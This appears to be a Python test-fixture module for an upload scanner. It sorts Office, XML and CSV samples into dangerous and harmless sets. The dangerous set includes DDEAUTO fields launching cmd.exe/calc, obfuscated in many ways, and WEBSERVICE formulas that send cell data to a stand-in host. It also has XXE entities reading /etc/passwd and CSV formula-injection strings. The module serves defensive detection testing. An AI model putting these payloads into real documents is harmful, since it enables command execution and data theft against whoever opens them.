"""Documents of Office and tables: what acts in them, and what only looks so."""

from tests.uploads.files import OLE
from tests.uploads.files import WORD
from tests.uploads.files import office


MATHS = "http://schemas.openxmlformats.org/officeDocument/2006/math"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
LETTERS = "".join(map(chr, (0x44, 0x44, 0x45)))


# DOCX


def story(inner, root="document"):
    return f'<w:{root} xmlns:w="{WORD}" xmlns:m="{MATHS}">{inner}</w:{root}>'


def run(inner):
    return f"<w:r>{inner}</w:r>"


def char(kind):
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instr(text, tag="instrText"):
    return run(f'<w:{tag} xml:space="preserve">{text}</w:{tag}>')


def complex_field(*code, result="x"):
    """A field of runs: texts of its code, or whole fields in it."""
    inner = "".join(c if c.startswith("<") else instr(c) for c in code)
    return (
        f"<w:p>{char('begin')}{inner}{char('separate')}{run(f'<w:t>{result}</w:t>')}"
        f"{char('end')}</w:p>"
    )


def nested(*code):
    return complex_field(*code).removeprefix("<w:p>").removesuffix("</w:p>")


def simple_field(code):
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r/></w:fldSimple></w:p>'


CMD = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
ACTIVE_FIELDS = {
    "whole": complex_field(CMD),
    "small letters": complex_field(CMD.lower()),
    "DDE": complex_field(' DDE Excel "C:\\\\a.xlsx" R1C1 '),
    "cut into runs": complex_field(" D", "D", "E", "AUTO", " c:\\\\cmd"),
    "cut in letters": complex_field(*CMD),
    "simple": simple_field(CMD.replace('"', "&quot;")),
    "simple, first sign a blank that is none": simple_field("&#8203;DDE x y"),
    "in quotation marks": complex_field(' "DDEAUTO" c:\\\\cmd '),
    "no blank behind": complex_field('DDEAUTO"c:\\\\cmd"'),
    "full width": complex_field("\uff24\uff24\uff25AUTO c:\\\\cmd"),
    "letters by number": complex_field("&#68;&#68;&#69; c:\\\\cmd"),
    "in a condition": complex_field(' IF "a"="a" ', nested(CMD), ' "b" '),
    "deep": complex_field(" IF ", nested(" IF ", nested(CMD))),
    "name of another field": complex_field(
        " ", nested(" QUOTE 68 68 69 65 85 84 79 "), " c:\\\\cmd"
    ),
    "half a name of another field": complex_field(
        " DD", nested(' REF "rest" '), " c:\\\\cmd"
    ),
    "name of a simple field": complex_field(
        '<w:fldSimple w:instr=" REF n "><w:r/></w:fldSimple>', " c:\\\\cmd"
    ),
    "spelled": complex_field(" QUOTE 68 68 69 65 85 84 79 32 99 "),
    "behind what was deleted": complex_field(
        instr(" PAGE ", "delInstrText"), instr("DDEAUTO c:\\\\cmd")
    ),
    "deleted": complex_field(instr(CMD, "delInstrText")),
    "never ended": f"<w:p>{char('begin')}{instr(CMD)}</w:p>",
    "never begun": f"<w:p>{instr(CMD)}</w:p>",
    "in the result of another": f"<w:p>{char('begin')}{instr(' TOC ')}"
    f"{char('separate')}{nested(CMD)}{char('end')}</w:p>",
    "other file": complex_field(" LINK Excel.Sheet.12 C:\\\\a.xlsx R1C1 \\a "),
    "text of a server": complex_field(' INCLUDETEXT "\\\\\\\\x.example\\\\a.docx" '),
    "picture of a server": complex_field(' INCLUDEPICTURE "\\\\\\\\x\\\\a.png" \\d '),
    "data": complex_field(' DATABASE \\d "C:\\\\a.mdb" '),
}
HARMLESS_FIELDS = {
    "page": complex_field(" PAGE ") + simple_field(" NUMPAGES "),
    "contents": complex_field(' TOC \\o "1-3" \\h ', result="DDE và DDEAUTO"),
    "link with the letters": complex_field(' HYPERLINK "https://x.example/dde/a" '),
    "link to a place of that name": complex_field(" REF DDE \\h "),
    "condition": complex_field("IF", nested(" PAGE "), '=1 "a" "b" '),
    "sum": complex_field("=", nested(" PAGE "), "+1"),
    "click here": complex_field(" MACROBUTTON NoMacro [Ghi tên] "),
    "picture of a page": complex_field(' INCLUDEPICTURE "http://x.example/a.png" '),
    "date": simple_field(" DATE \\@ &quot;dd/MM/yyyy&quot; "),
    "words in the text": "<w:p><w:r><w:t>DDEAUTO cmd|'/c calc'!A1</w:t></w:r></w:p>",
    "fraction": "<w:p><m:oMath><m:f><m:fPr/><m:num><m:r><m:t>cmd|'/c'!A</m:t></m:r>"
    "</m:num><m:den><m:r><m:t>DDE(2)</m:t></m:r></m:den></m:f></m:oMath></w:p>",
    "function in a text": "<w:p><m:oMath><m:func><m:fName/></m:func></m:oMath></w:p>",
}
#: Parts of a DOCX that hold fields: name, root element.
STORIES = (
    ("word/document.xml", "document"),
    ("word/header1.xml", "hdr"),
    ("word/footer2.xml", "ftr"),
    ("word/footnotes.xml", "footnotes"),
    ("word/endnotes.xml", "endnotes"),
    ("word/comments.xml", "comments"),
    ("word/glossary/document.xml", "glossaryDocument"),
    ("WORD\\Header9.XML", "hdr"),
    ("other/place.xml", "hdr"),
    ("word/header1.dat", "hdr"),
)


def docx(inner, part="word/document.xml", root="document"):
    if part == "word/document.xml":
        return office("docx", body=story(inner))
    return office("docx", (part, story(inner, root)))


# XLSX


def sheet(inner, namespace=SHEET, part="xl/worksheets/sheet1.xml", prefix=""):
    colon = f"{prefix}:" if prefix else ""
    declared = f"xmlns:{prefix}" if prefix else "xmlns"
    text = f'<{colon}worksheet {declared}="{namespace}">{inner}</{colon}worksheet>'
    return office("xlsx", (part, text))


def cell(formula, prefix=""):
    colon = f"{prefix}:" if prefix else ""
    return (
        f'<{colon}sheetData><{colon}row r="1"><{colon}c r="A1"><{colon}f>{formula}'
        f"</{colon}f><{colon}v>0</{colon}v></{colon}c></{colon}row></{colon}sheetData>"
    )


ACTIVE_FORMULAS = (
    "cmd|'/c calc'!A1",
    "'cmd'|'/c calc'!A1",
    "1+cmd|' /C calc'!A0",
    "IF(A1=1,MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!'',0)",
    "_xlfn.WEBSERVICE(&quot;http://x.example/?&quot;&amp;A1)",
    "webservice (A1)",
    "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)",
    "RTD(&quot;x&quot;,,&quot;y&quot;)",
    "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,A1,0)",
    "_xlfn.IMAGE(&quot;https://x.example/?&quot;&amp;A1)",
    "'C:\\[b.xlsx]S'!A1",
    "IMPORTXML(&quot;http://x&quot;,&quot;//a&quot;)",
)
HARMLESS_FORMULAS = (
    "SUM(A1:A3)",
    "VLOOKUP(A1,'Danh mục'!$A$1:$B$9,2,0)",
    "A1&amp;&quot;|&quot;&amp;B1&amp;&quot;!&quot;",
    "IF(A1=&quot;cmd|'/c calc'!A1&quot;,1,0)",
    "Bảng1[Số tiền]*2",
    "Bảng1[[#This Row],[Tên|Họ]]",
    "HYPERLINK(&quot;#'Tháng 1'!A1&quot;,A1)",
    "'O''Brien'!A1+'A|B'!A1",
    "SUMPRODUCT(--(A1:A3&gt;0))",
    "-5",
)
CHOICES = (
    f'<extLst><ext xmlns:x14="{X14}"><x14:dataValidations count="1" xmlns:xm="{XM}">'
    '<x14:dataValidation type="list" allowBlank="1"><x14:formula1><xm:f>%s</xm:f>'
    "</x14:formula1><xm:sqref>B2:B100</xm:sqref></x14:dataValidation>"
    "</x14:dataValidations></ext></extLst>"
)
HARMLESS_SHEETS = {
    "choices of another sheet": sheet(CHOICES % "'Danh mục'!$A$1:$A$9"),
    "choices": sheet(
        '<dataValidations><dataValidation type="list"><formula1>"Có,Không"</formula1>'
        "</dataValidation><dataValidation><formula1>'Danh mục'!$A$1:$A$9</formula1>"
        "</dataValidation></dataValidations>"
    ),
    "text like a formula": sheet(
        "<sheetData><row><c t=\"inlineStr\"><is><t>=cmd|'/c calc'!A1</t></is></c></row>"
        "</sheetData>"
    ),
    "shared text like one": office(
        "xlsx",
        (
            "xl/sharedStrings.xml",
            f'<sst xmlns="{SHEET}"><si><t>DDE( WEBSERVICE( ddeLink</t></si></sst>',
        ),
    ),
    "colours by a rule": sheet(
        "<conditionalFormatting><cfRule><formula>$A1&gt;5</formula></cfRule>"
        "</conditionalFormatting>"
    ),
    "what is printed": office(
        "xlsx",
        body=f"<workbook xmlns=\"{SHEET}\"><definedNames><definedName>'Trang 1'!$A$1:"
        "$B$2</definedName></definedNames></workbook>",
    ),
    "own data": office(
        "xlsx",
        ("customXml/item1.xml", '<connection xmlns="urn:x"><f>a</f></connection>'),
    ),
}
ACTIVE_SHEETS = {
    "choices": sheet(CHOICES % "WEBSERVICE(A1)"),
    "name": office(
        "xlsx",
        body=f'<workbook xmlns="{SHEET}"><definedNames><definedName name="a">'
        "cmd|'/c calc'!A1</definedName></definedNames></workbook>",
    ),
    "link by DDE": office(
        "xlsx",
        (
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" '
            'ddeTopic="/c calc"/></externalLink>',
        ),
    ),
    "link by DDE elsewhere": office(
        "xlsx",
        (
            "xl/other/a.dat",
            f'<x:externalLink xmlns:x="{STRICT}"><x:ddeLink ddeService="cmd"/>'
            "</x:externalLink>",
        ),
    ),
    "connection elsewhere": office(
        "xlsx",
        (
            "xl/a.xml",
            f'<connections xmlns="{SHEET}"><connection id="1"/></connections>',
        ),
    ),
    "query": office(
        "xlsx",
        (
            "customXml/item1.xml",
            '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>',
        ),
    ),
    "pivot of a database": office(
        "xlsx",
        (
            "xl/pivotCache/pivotCacheDefinition1.xml",
            f'<pivotCacheDefinition xmlns="{SHEET}"><cacheSource type="external"/>'
            "</pivotCacheDefinition>",
        ),
    ),
    "program as a picture": office("xlsx", ("xl/media/image1.png", b"\x7fELF\x02\x01")),
    "compound file": office("xlsx", ("xl/media/a.emf", OLE)),
    "drawing that runs": office(
        "xlsx",
        (
            "xl/media/a.svg",
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
    ),
}


# definitions

ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
#: Ways to write a part with definitions.
DEFINED = {
    "plain": f"{ENTITY}<x/>".encode(),
    "with a declaration": f'<?xml version="1.0"?>{ENTITY}<x/>'.encode(),
    "with a mark": b"\xef\xbb\xbf" + f"{ENTITY}<x/>".encode(),
    "behind a remark": f"<!-- a --><?b c?>\n{ENTITY}<x/>".encode(),
    "behind a long remark": f"<!--{'a b ' * 99_000}-->{ENTITY}<x/>".encode(),
    "UTF-16": f"{ENTITY}<x/>".encode("utf-16"),
    "UTF-16, big end": b"\xfe\xff" + f"{ENTITY}<x/>".encode("utf-16-be"),
    "UTF-16, no mark": f'<?xml version="1.0"?>{ENTITY}<x/>'.encode("utf-16-le"),
    "outside": b'<!DOCTYPE x SYSTEM "http://x.example/a.dtd"><x/>',
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>',
}
NOT_DEFINED = {
    "word in a text": b"<x>&lt;!DOCTYPE html&gt;</x>",
    "word in a section": b"<x><![CDATA[<!DOCTYPE html>]]></x>",
    "word in a remark": b"<!-- <!DOCTYPE html> --><x/>",
    "UTF-16": '<?xml version="1.0" encoding="UTF-16"?><x>ư</x>'.encode("utf-16"),
    "empty": b"",
}


# cells of a CSV

RUN = (
    '=WEBSERVICE("http://x.example")',
    "  =cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://x.example/?"&A1)',
    '\r=IMPORTXML("http://x.example")',
    '＝WEBSERVICE("x")',
    '“=DDE("cmd";"/C calc";"x")',
    "Ông A\n=WEBSERVICE(1)",
    '\u200b=hyperlink ("x")',
    '＋ＨＹＰＥＲＬＩＮＫ（"x"）',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IF(1,importdata("x"),0)',
)
PLAIN = (
    "-5",
    "-12.500.000",
    "+84 912 345 678",
    "- không -",
    "@thads.hanoi",
    "a@b.vn",
    "- Có | Không!",
    "=> xem mục 2",
    "'=cmd|'/c calc'!A1",
    "- xem ảnh (image), gọi (call)",
    "WEBSERVICE(1)",
)
